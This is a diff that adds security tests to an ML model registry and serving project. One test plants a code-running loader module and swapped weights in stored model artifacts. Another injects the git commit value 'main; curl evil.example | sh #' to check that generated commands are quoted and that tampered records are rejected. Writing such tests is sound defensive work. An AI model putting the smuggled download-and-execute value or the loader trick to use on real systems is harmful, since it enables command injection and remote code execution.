@@ -378,6 +378,77 @@ def test_lineage_leads_back_to_settings_that_train_the_same_weights(
 def test_a_version_is_loaded_with_what_the_registry_recorded(store, evaluated, tmp_path):
     register_record(store, evaluated())
     (version,) = versions(store)
-    segmenter = load_version(version, tmp_path / "fetched")
+    segmenter = load_version(store, version, tmp_path / "fetched")
     assert segmenter.threshold == version.metrics["threshold"]
     assert segmenter.fingerprint == version.tags["emseg.digest"]
+
+
+EVIL = """
+from pathlib import Path
+Path({proof!r}).touch()
+def _load_pyfunc(path):
+    raise SystemExit("run")
+"""
+
+
+@pytest.mark.parametrize("way", ["loader module with code", "model code path", "swapped network"])
+def test_nothing_that_a_version_brings_along_is_run_or_believed(store, evaluated, stack, tmp_path, way):
+    import yaml
+    from fastapi.testclient import TestClient
+
+    from emseg.tracking.serving import champion_of_registry, make_app
+
+    for seed in (0, 1):
+        register_record(store, evaluated(seed))
+    with registry_lock(store):
+        set_champions(store, [1])
+    section = stack[0][0]
+    expected = next(load_segmenter().segment([section].__getitem__, 1, "probability"))
+    first, second = (artifacts_of(store, find_version(store, number)) for number in "12")
+    proof = tmp_path / "evil-has-run"
+    described = yaml.safe_load((first / "MLmodel").read_text())
+    python = described["flavors"]["python_function"]
+    (first / "code").mkdir(exist_ok=True)
+    for file in (first / "code" / "evil.py", first / "evil.py"):
+        file.write_text(EVIL.format(proof=str(proof)))
+    if way == "loader module with code":
+        python |= {"loader_module": "evil", "code": "code"}
+    elif way == "model code path":
+        python |= {"loader_module": "mlflow.pyfunc.model", "model_code_path": "evil.py"}
+    else:
+        (network,) = first.rglob("*.pt2")
+        network.write_bytes(next(second.rglob("*.pt2")).read_bytes())
+    (first / "MLmodel").write_text(yaml.safe_dump(described))
+    for reference in (f"models:/{MODEL_NAME}@champion", f"models:/{MODEL_NAME}/1"):
+        found = next(load_segmenter(reference).segment([section].__getitem__, 1, "probability"))
+        np.testing.assert_array_equal(found, expected)
+    import io
+
+    import tifffile
+
+    stream = io.BytesIO()
+    tifffile.imwrite(stream, section, photometric="minisblack")
+    client = TestClient(make_app(champion_of_registry()))
+    answer = client.post("/segment?kind=probability", content=stream.getvalue())
+    np.testing.assert_array_equal(tifffile.imread(io.BytesIO(answer.content)), expected)
+    assert client.post("/invocations", json={"inputs": [[[[0.0]]]]}).status_code == 404
+    assert lineage(store, "1")["version"] == 1
+    assert not unmet(promote(store, RULE, "2", dry_run=True, force="to load it"))[:1] == ["loads safely"]
+    assert not proof.exists()
+
+
+def test_a_changed_record_prints_no_commands_and_a_registered_one_only_quoted_ones(store, evaluated):
+    import shlex
+
+    record = evaluated()
+    evil = "main; curl evil.example | sh #"
+    record.update(lineage=record.read()["lineage"] | {"git_commit": evil})
+    register_record(store, record)
+    (command,) = [c for c in lineage(store, "1")["commands"] if c.startswith("git checkout")]
+    assert shlex.split(command) == ["git", "checkout", evil]
+    file = artifacts_of(store, find_version(store, "1")) / "extra_files" / "record.json"
+    file.write_text(file.read_text().replace("main;", "dev ;"))
+    for what in (lineage, lambda *a: write_settings(*a, Path("again.yaml"))):
+        with pytest.raises(InputError, match="not those that were registered"):
+            what(store, "1")
+    assert not Path("again.yaml").exists()
